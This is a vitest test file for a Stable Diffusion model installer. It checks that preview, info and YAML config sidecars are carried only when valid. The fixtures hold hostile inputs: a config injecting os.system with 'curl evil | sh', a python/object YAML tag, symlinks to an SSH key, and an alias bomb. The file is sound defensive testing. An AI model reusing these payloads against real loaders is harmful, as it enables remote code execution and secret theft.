import { execFileSync } from "node:child_process";
import { mkdir, readdir, rm, symlink, truncate, writeFile } from "node:fs/promises";
import { basename, join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  CIVITAI_INFO,
  DESCRIPTION,
  GIF_PREVIEW,
  JPEG_PREVIEW,
  MP4_PREVIEW,
  PNG_PREVIEW,
  USER_METADATA,
  V_PREDICTION_CONFIG,
  WEBP_PREVIEW,
  writeSidecars,
} from "../../fixtures/sidecar-files.js";
import { applyPlan } from "../../src/install/apply-plan.js";
import { placeFile } from "../../src/install/place-file.js";
import { SIDECAR_MAX_BYTES } from "../../src/install/sidecar-policy.js";
import type { MoveEntry, PlanEntry, SkipEntry } from "../../src/install/types.js";
import { useTempDirs } from "../helpers.js";
import { a1111WithDownloads, filesUnder, classification as k, modelFile, plan } from "./fake-webui.js";

const tempDir = useTempDirs("sdmodels-sidecar-");

function move(entry: PlanEntry | undefined): MoveEntry {
  expect(entry?.action).toBe("move");
  return entry as MoveEntry;
}

const carried = (entry: MoveEntry) => entry.sidecars.map((s) => basename(s.source)).sort();
const left = (entry: MoveEntry | SkipEntry) =>
  Object.fromEntries((entry.sidecarsLeft ?? []).map((l) => [basename(l.path), l.reason]));

describe("a sidecar travels only when it is what its name says", () => {
  it("carries real previews, info files and descriptions", async () => {
    const { downloads, target } = await a1111WithDownloads(tempDir);
    const lora = await modelFile(join(downloads, "m.safetensors"), k("lora"));
    const files: Record<string, Buffer | string> = {
      "m.preview.png": PNG_PREVIEW,
      // Civitai Helper names every preview .png, whatever Civitai served.
      "m.png": JPEG_PREVIEW,
      "m.preview.webp": WEBP_PREVIEW,
      "m.example.1.gif": GIF_PREVIEW,
      "m.preview.mp4": MP4_PREVIEW,
      "m.civitai.info": CIVITAI_INFO,
      "m.json": USER_METADATA,
      "m.txt": DESCRIPTION,
    };
    for (const [name, bytes] of Object.entries(files)) await writeFile(join(downloads, name), bytes);
    const entry = move((await plan([lora], target)).entries[0]);
    expect(carried(entry)).toEqual(Object.keys(files).sort());
    expect(entry.sidecarsLeft).toEqual([]);
  });

  it("leaves a sidecar whose bytes are not what its name says, with a typed reason; installs the model", async () => {
    const { root, downloads, target, journalDir } = await a1111WithDownloads(tempDir);
    const lora = await modelFile(join(downloads, "m.safetensors"), k("lora"));
    await writeFile(join(downloads, "m.preview.png"), "<html><script>fetch('/internal')</script></html>");
    await writeFile(join(downloads, "m.preview.mp4"), PNG_PREVIEW);
    await writeFile(join(downloads, "m.civitai.info"), "not json {");
    await writeFile(join(downloads, "m.cm-info.json"), "[1, 2]");
    await writeFile(join(downloads, "m.txt"), Buffer.from("MZ\0\0\x90\0binary"));
    await writeFile(join(downloads, "m.description.txt"), Buffer.from([0xc3, 0x28]));
    const entry = move((await plan([lora], target)).entries[0]);
    expect(carried(entry)).toEqual([]);
    expect(left(entry)).toEqual({
      "m.preview.png": { type: "wrong-content", expected: "image" },
      "m.preview.mp4": { type: "wrong-content", expected: "video" },
      "m.civitai.info": { type: "wrong-content", expected: "json" },
      "m.cm-info.json": { type: "wrong-content", expected: "json" },
      "m.txt": { type: "wrong-content", expected: "text" },
      "m.description.txt": { type: "wrong-content", expected: "text" },
    });
    const report = await applyPlan(await plan([lora], target), { journalDir });
    expect(report.failure).toBeNull();
    expect(await filesUnder(join(root, "models/Lora"))).toEqual(["m.safetensors"]);
    expect((await readdir(downloads)).length).toBe(6);
  });

  it("leaves a sidecar larger than its type's bound without reading it", async () => {
    const { downloads, target } = await a1111WithDownloads(tempDir);
    const lora = await modelFile(join(downloads, "m.safetensors"), k("lora"));
    const big = join(downloads, "m.preview.png");
    await writeFile(big, PNG_PREVIEW);
    await truncate(big, SIDECAR_MAX_BYTES.image + 1); // sparse
    const entry = move((await plan([lora], target)).entries[0]);
    expect(left(entry)).toEqual({
      "m.preview.png": { type: "too-large", size: SIDECAR_MAX_BYTES.image + 1, limit: SIDECAR_MAX_BYTES.image },
    });
  });
});

describe("a sidecar that is a link or a special file never travels", () => {
  it("a preview linking to a secret travels neither as a link nor as the secret's bytes, on move or copy", async () => {
    for (const copy of [false, true]) {
      const { root, downloads, target, journalDir } = await a1111WithDownloads(tempDir);
      const home = await tempDir();
      await mkdir(join(home, ".ssh"));
      const secret = join(home, ".ssh/id_rsa");
      // A key that even passes the image check: the link itself is the problem.
      await writeFile(secret, Buffer.concat([PNG_PREVIEW, Buffer.from("-----BEGIN OPENSSH PRIVATE KEY-----")]));
      const lora = await modelFile(join(downloads, "cool.safetensors"), k("lora"));
      await symlink(secret, join(downloads, "cool.preview.png"));
      await symlink(secret, join(downloads, "cool.civitai.info"));

      const planned = await plan([lora], target, { copy });
      const entry = move(planned.entries[0]);
      expect(carried(entry)).toEqual([]);
      expect(left(entry)).toEqual({
        "cool.preview.png": { type: "not-a-file", found: "symlink" },
        "cool.civitai.info": { type: "not-a-file", found: "symlink" },
      });
      await applyPlan(planned, { journalDir });
      expect(await readdir(join(root, "models/Lora"))).toEqual(["cool.safetensors"]);
    }
  });

  it("a sidecar swapped for a link after planning is not carried, and a copy never reads through a link", async () => {
    const { root, downloads, target, journalDir } = await a1111WithDownloads(tempDir);
    const secret = join(await tempDir(), "id_rsa");
    await writeFile(secret, "-----BEGIN OPENSSH PRIVATE KEY-----");
    const lora = await modelFile(join(downloads, "cool.safetensors"), k("lora"));
    await writeSidecars(downloads, ["cool.preview.png"]);
    const planned = await plan([lora], target, { copy: true });
    expect(carried(move(planned.entries[0]))).toEqual(["cool.preview.png"]);
    await rm(join(downloads, "cool.preview.png"));
    await symlink(secret, join(downloads, "cool.preview.png"));
    await applyPlan(planned, { journalDir });
    expect(await readdir(join(root, "models/Lora"))).toEqual(["cool.safetensors"]);
    await expect(
      placeFile(join(downloads, "cool.preview.png"), join(root, "models/Lora/x.png"), { keepSource: true }),
    ).rejects.toMatchObject({
      code: "not-a-regular-file",
    });
    expect(await readdir(join(root, "models/Lora"))).toEqual(["cool.safetensors"]);
  });

  it("a FIFO or a folder named like a sidecar is left, unopened", async () => {
    const { downloads, target } = await a1111WithDownloads(tempDir);
    const lora = await modelFile(join(downloads, "m.safetensors"), k("lora"));
    execFileSync("mkfifo", [join(downloads, "m.preview.png")]);
    await mkdir(join(downloads, "m.civitai.info"));
    const entry = move((await plan([lora], target)).entries[0]);
    expect(left(entry)).toEqual({
      "m.preview.png": { type: "not-a-file", found: "fifo" },
      "m.civitai.info": { type: "not-a-file", found: "directory" },
    });
  });

  it("--strict refuses the model whose sidecar would stay behind, and moves nothing of it", async () => {
    const { root, downloads, target, journalDir } = await a1111WithDownloads(tempDir);
    const lora = await modelFile(join(downloads, "m.safetensors"), k("lora"));
    const other = await modelFile(join(downloads, "n.safetensors"), k("lora"), { dim: 5 });
    await writeFile(join(downloads, "m.preview.png"), "GIF? no");
    await writeFile(join(downloads, "m.txt"), DESCRIPTION);
    const planned = await plan([lora, other], target, { strict: true });
    const [refused, fine] = planned.entries;
    expect(refused).toMatchObject({ action: "skip", reason: { code: "sidecar-refused" } });
    expect(left(refused as SkipEntry)).toEqual({ "m.preview.png": { type: "wrong-content", expected: "image" } });
    expect(fine?.action).toBe("move");
    await applyPlan(planned, { journalDir });
    expect(await filesUnder(join(root, "models/Lora"))).toEqual(["n.safetensors"]);
    expect((await readdir(downloads)).sort()).toEqual(["m.preview.png", "m.safetensors", "m.txt"]);
  });
});

describe("a checkpoint's .yaml travels only as a model config the WebUIs' own configs vouch for", () => {
  const configCase = async (yaml: string) => {
    const { downloads, target } = await a1111WithDownloads(tempDir);
    const checkpoint = await modelFile(join(downloads, "c.safetensors"), k("checkpoint"));
    await writeFile(join(downloads, "c.yaml"), yaml);
    const entry = move((await plan([checkpoint], target)).entries[0]);
    return { carried: carried(entry), reason: left(entry)["c.yaml"] ?? null };
  };

  it("carries a v-prediction config built from shipped targets", async () => {
    expect(await configCase(V_PREDICTION_CONFIG)).toEqual({ carried: ["c.yaml"], reason: null });
  });

  it("leaves a config that calls os.system, at any depth", async () => {
    const evil = V_PREDICTION_CONFIG.replace(
      "target: torch.nn.Identity",
      "target: os.system\n          params: {command: 'curl evil | sh'}",
    );
    expect(await configCase(evil)).toEqual({
      carried: [],
      reason: {
        type: "config-refused",
        problem: {
          type: "target",
          path: "model.params.first_stage_config.params.lossconfig.target",
          target: "os.system",
        },
      },
    });
    expect((await configCase("model:\n  target: os.system\n")).reason).toMatchObject({
      problem: { type: "target", target: "os.system" },
    });
  });

  it("leaves instantiate_from_config (builds whatever it is told) and prefix look-alikes", async () => {
    for (const target of [
      "ldm.util.instantiate_from_config",
      "ldm.models.diffusion.ddpm.LatentDiffusionX",
      "sgm.util.get_obj_from_str",
      "torch.load",
    ]) {
      expect((await configCase(`model:\n  target: ${target}\n`)).reason, target).toEqual({
        type: "config-refused",
        problem: { type: "target", path: "model.target", target },
      });
    }
  });

  it("leaves a config whose allowed classes point at a file to torch.load or a repository to download", async () => {
    const withCkpt = V_PREDICTION_CONFIG.replace(
      'parameterization: "v"',
      'parameterization: "v"\n    ckpt_path: "../../Downloads/evil.ckpt"',
    );
    expect((await configCase(withCkpt)).reason).toEqual({
      type: "config-refused",
      problem: { type: "value", path: "model.params.ckpt_path", value: "../../Downloads/evil.ckpt" },
    });
    const withRepo = V_PREDICTION_CONFIG.replace(
      'layer: "penultimate"',
      'layer: "penultimate"\n        version: "attacker/pickled-clip"',
    );
    expect((await configCase(withRepo)).reason).toMatchObject({
      problem: { type: "value", value: "attacker/pickled-clip" },
    });
  });

  it("leaves a !!python/object tag, any custom tag, and an alias bomb without expanding it", async () => {
    expect((await configCase("model:\n  target: !!python/object/apply:os.system ['id']\n")).reason).toEqual({
      type: "config-refused",
      problem: { type: "tag", tag: "tag:yaml.org,2002:python/object/apply:os.system" },
    });
    expect((await configCase("model: !custom\n  target: torch.nn.Identity\n")).reason).toMatchObject({
      problem: { type: "tag", tag: "!custom" },
    });
    const levels = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"];
    for (let i = 1; i < 9; i++)
      levels.push(
        `${"abcdefghi"[i]}: &${"abcdefghi"[i]} [${Array(9)
          .fill(`*${"abcdefghi"[i - 1]}`)
          .join(", ")}]`,
      );
    const bomb = `model:\n  target: torch.nn.Identity\n${levels.join("\n")}\n`;
    expect((await configCase(bomb)).reason).toEqual({ type: "config-refused", problem: { type: "alias" } });
  });

  it("leaves what is not one model config: a second document, duplicate keys, no model.target, a list", async () => {
    const cases: [string, string][] = [
      ["model:\n  target: torch.nn.Identity\n---\nmodel:\n  target: os.system\n", "syntax"],
      ["model:\n  target: torch.nn.Identity\n  target: os.system\n", "syntax"],
      ["data:\n  target: main.DataModuleFromConfig\n", "no-model"],
      ["- model\n", "no-model"],
      ["model:\n  target: [os.system]\n", "no-model"],
      // Nesting a parser would recurse into: reported, not a stack overflow.
      [`model:\n  target: torch.nn.Identity\nx: ${"[".repeat(20_000)}`, "syntax"],
    ];
    for (const [yaml, type] of cases)
      expect((await configCase(yaml)).reason, yaml).toMatchObject({ type: "config-refused", problem: { type } });
  });

  it("never takes a .yaml beside a model that is not a checkpoint", async () => {
    const { downloads, target } = await a1111WithDownloads(tempDir);
    const lora = await modelFile(join(downloads, "l.safetensors"), k("lora"));
    await writeFile(join(downloads, "l.yaml"), V_PREDICTION_CONFIG);
    const entry = move((await plan([lora], target)).entries[0]);
    expect(entry.sidecars).toEqual([]);
    expect(entry.sidecarsLeft).toEqual([]);
  });
});
